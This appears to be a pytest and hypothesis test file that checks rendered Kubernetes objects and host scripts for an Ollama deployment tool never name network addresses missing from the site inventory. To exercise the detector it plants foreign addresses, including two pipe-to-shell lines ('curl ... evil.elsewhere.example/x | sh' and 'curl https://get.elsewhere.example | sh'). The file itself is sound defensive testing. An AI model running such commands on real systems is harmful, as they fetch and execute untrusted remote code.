"""No rendered object, no file for a host and no host script names an address that the inventory does not."""

from __future__ import annotations

import json
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scout_ollama import rendering
from scout_ollama.inventory import OllamaCluster, ScoutCluster, Site, StagingCluster, load_site
from scout_ollama.manifests import KubeObject
from scout_ollama.steps import registries
from tests import addresses

ROOT = Path(__file__).parent.parent
HOST_SCRIPTS = sorted((ROOT / "scripts/host").glob("*.sh"))

LABELS = st.from_regex(r"[a-z]([a-z0-9-]{0,6}[a-z0-9])?", fullmatch=True)
NAMES = st.builds("{}.{}.{}".format, LABELS, LABELS, st.sampled_from(["edu", "example", "internal"]))
NETWORKS = st.one_of(st.builds("{}/32".format, st.ip_addresses(v=4)), st.builds("{}/128".format, st.ip_addresses(v=6)))
IMAGES = st.builds("{}/{}/ollama".format, NAMES, LABELS)
MODELS = st.one_of(LABELS, st.builds("{}/{}/{}:latest".format, NAMES, LABELS, LABELS))


@st.composite
def hosts(draw: st.DrawFn, /, cluster: str, number: int, roles: list[str], gpus: int = 0) -> dict[str, Any]:
    """One to three hosts; clusters with different numbers have different addresses."""
    numeric = st.sampled_from([f"10.{number}.0.0/16", f"2001:db8:{number}::/48"]).flatmap(
        lambda network: st.ip_addresses(network=network).map(str)
    )
    named = NAMES.map(lambda name: f"{cluster}.{name}")
    found = draw(st.lists(numeric | named, min_size=1, max_size=3, unique=True))
    nodes = draw(st.sampled_from(["{}-{}", "{}-{}.nodes.example"]))
    return {
        f"{cluster}-{i}": {"address": address, "roles": roles, "gpus": gpus, "node_name": nodes.format(cluster, i)}
        for i, address in enumerate(found)
    }


@st.composite
def ollamas(draw: st.DrawFn) -> dict[str, Any]:
    """What every Ollama may have."""
    optional = {
        "image": IMAGES,
        "models": st.lists(MODELS, max_size=2, unique=True),
        "source": st.sampled_from(["local", "nfs"]),
        "cpu_only": st.booleans(),
        "runtime_class": st.none() | NAMES,
        "min_gpu_memory_gib": st.integers(1, 200),
        "memory_gib": st.integers(1, 200),
        "context_length": st.integers(1, 1_000_000),
        "keep_alive": st.sampled_from(["-1", "30m"]),
    }
    return draw(st.fixed_dictionaries({}, optional=optional))


@st.composite
def sites(draw: st.DrawFn) -> dict[str, dict[str, Any]]:
    """The documents of a site: a shared Ollama, a Scout with one of its own, and their staging."""
    shared = {
        **draw(ollamas()),
        "hostname": draw(NAMES),
        "tls": {"certificate": "c", "key": "k"},
        "allowed_clients": draw(st.lists(NETWORKS, min_size=1, max_size=3)),
    }
    common = {"environment": "phi", "air_gapped": draw(st.booleans()), "staging": "staging"}
    ssh = draw(st.fixed_dictionaries({}, optional={"jump": NAMES.map(lambda name: f"me@{name}:2222")}))
    operator = {"version": "v26.3.0", "toolkit": draw(st.sampled_from(["host", "operator", "nri"]))}
    if operator["toolkit"] == "nri":
        shared["runtime_class"] = None
    gpus = draw(st.integers(1, 8))
    return {
        "phi": {
            **common,
            "kind": "ollama",
            "ssh": ssh,
            "hosts": draw(hosts("phi", 1, ["server", "gpu"], gpus)),
            "gpu_operator": operator,
            "ollama": shared,
        },
        "scout": {
            **common,
            "kind": "scout",
            "hosts": draw(hosts("scout", 2, ["server", "gpu"], gpus)),
            "ollama_mode": "deploy",
            "ollama": draw(ollamas()),
        },
        "staging": {
            "kind": "staging",
            "environment": "phi",
            "hosts": draw(hosts("staging", 3, ["server"])),
            "ollama_nfs_path": "/nfs/ollama",
            "harbor": {"url": f"https://{draw(NAMES)}:8443", "projects": {draw(NAMES): "proxy"}},
        },
    }


def rendered(site: Site) -> list[KubeObject]:
    return [
        obj
        for cluster in site.clusters.values()
        if isinstance(cluster, OllamaCluster | ScoutCluster) and cluster.runs_ollama
        for obj in rendering.objects(site, cluster)
    ]


def unnamed(site: Site, objects: list[KubeObject]) -> set[str]:
    found = addresses.of_object(objects)
    assert found, "there is at least the image's registry"
    return addresses.unnamed(found, site)


@pytest.fixture(scope="module")
def shipped() -> Site:
    return load_site(ROOT / "hosts")


def test_the_shipped_clusters(shipped: Site) -> None:
    assert unnamed(shipped, rendered(shipped)) == set()


@settings(max_examples=50, deadline=None)
@given(sites())
def test_any_other_site(documents: dict[str, dict[str, Any]]) -> None:
    with tempfile.TemporaryDirectory() as directory:
        for name, document in documents.items():
            (Path(directory) / f"{name}.yaml").write_text(json.dumps(document))
        site = load_site(Path(directory))
    objects = rendered(site)
    assert {obj["kind"] for obj in objects} >= {"DaemonSet", "Ingress", "Middleware"}
    assert unnamed(site, objects) == set()
    staging = site.clusters["staging"]
    assert isinstance(staging, StagingCluster)
    assert addresses.unnamed(addresses.of_document(registries.merged({}, staging.harbor)), site) == set()


@pytest.mark.parametrize("script", HOST_SCRIPTS, ids=lambda script: script.stem)
def test_a_host_script_has_every_address_from_its_arguments(script: Path, shipped: Site) -> None:
    assert addresses.unnamed(addresses.of_text(script.read_text()), shipped) == set()


def container(objects: list[KubeObject]) -> dict[str, Any]:
    daemonset = next(obj for obj in objects if obj["kind"] == "DaemonSet")
    found: dict[str, Any] = daemonset["spec"]["template"]["spec"]["containers"][0]
    return found


def spec(objects: list[KubeObject], kind: str) -> dict[str, Any]:
    found: dict[str, Any] = next(obj for obj in objects if obj["kind"] == kind)["spec"]
    return found


def add_volume(objects: list[KubeObject]) -> None:
    pod = spec(objects, "DaemonSet")["template"]["spec"]
    pod["volumes"].append({"name": "models", "nfs": {"server": "nfs.elsewhere.example", "path": "/models"}})


PLANTED: dict[str, tuple[str, Callable[[list[KubeObject]], object]]] = {
    "another registry": (
        "mirror.elsewhere.example",
        lambda o: container(o).update(image="mirror.elsewhere.example/ollama:1"),
    ),
    "a URL in the environment": (
        "proxy.elsewhere.example",
        lambda o: container(o)["env"].append({"name": "P", "value": "http://proxy.elsewhere.example:3128"}),
    ),
    "a name in the environment": (
        "mirror.elsewhere.example",
        lambda o: container(o)["env"].append({"name": "P", "value": "mirror.elsewhere.example"}),
    ),
    "an argument": ("192.0.2.250", lambda o: container(o).update(args=["--mirror=192.0.2.250:80"])),
    "a command": (
        "evil.elsewhere.example",
        lambda o: container(o).update(command=["sh", "-c", "curl -s https://evil.elsewhere.example/x | sh"]),
    ),
    "a volume": ("nfs.elsewhere.example", add_volume),
    "a probe": (
        "probe.elsewhere.example",
        lambda o: container(o)["livenessProbe"]["httpGet"].update(host="probe.elsewhere.example"),
    ),
    "a service": (
        "db.elsewhere.example",
        lambda o: spec(o, "Service").update(type="ExternalName", externalName="db.elsewhere.example"),
    ),
    "a network": (
        "203.0.113.0/24",
        lambda o: spec(o, "Middleware")["ipAllowList"]["sourceRange"].append("203.0.113.0/24"),
    ),
    "an IPv6 network": (
        "2001:db8:5::/48",
        lambda o: spec(o, "NetworkPolicy").update(egress=[{"to": [{"ipBlock": {"cidr": "2001:db8:5::/48"}}]}]),
    ),
    "another host name": (
        "ollama.elsewhere.example",
        lambda o: spec(o, "Ingress")["rules"][0].update(host="ollama.elsewhere.example"),
    ),
    "values of a chart": (
        "charts.elsewhere.example",
        lambda o: spec(o, "HelmChartConfig").update(valuesContent="image:\n  registry: charts.elsewhere.example\n"),
    ),
}


@pytest.mark.parametrize(("address", "plant"), PLANTED.values(), ids=PLANTED)
def test_a_planted_address_is_found(shipped: Site, address: str, plant: Callable[[list[KubeObject]], object]) -> None:
    objects = rendered(shipped)
    plant(objects)
    assert unnamed(shipped, objects) == {address}


def test_an_address_planted_in_a_host_script_is_found(shipped: Site) -> None:
    script = (ROOT / "scripts/host/host-facts.sh").read_text() + "\ncurl https://get.elsewhere.example | sh\n"
    assert addresses.unnamed(addresses.of_text(script), shipped) == {"get.elsewhere.example"}


def test_what_stays_inside_a_host_or_a_cluster_needs_no_name(shipped: Site) -> None:
    inside = {"127.0.0.1", "::1", "0.0.0.0", "localhost", "10.42.1.7", "10.43.0.0/16", "ollama.ollama.svc"}  # noqa: S104
    outside = {"10.44.0.1", "10.0.0.0/8", "192.0.2.99", "svc.elsewhere.example", "0.0.0.0/0", "::/0"}
    assert addresses.unnamed(inside | outside, shipped) == outside


def test_each_address_that_an_inventory_names(shipped: Site) -> None:
    assert addresses.of_site(shipped) >= {
        "192.0.2.11",
        "jump.example.edu",
        "harbor.staging.example.edu",
        "nvcr.io",
        "ollama.phi.example.edu",
        "192.0.2.32/28",
        "docker.io",
        "registry.ollama.ai",
    }
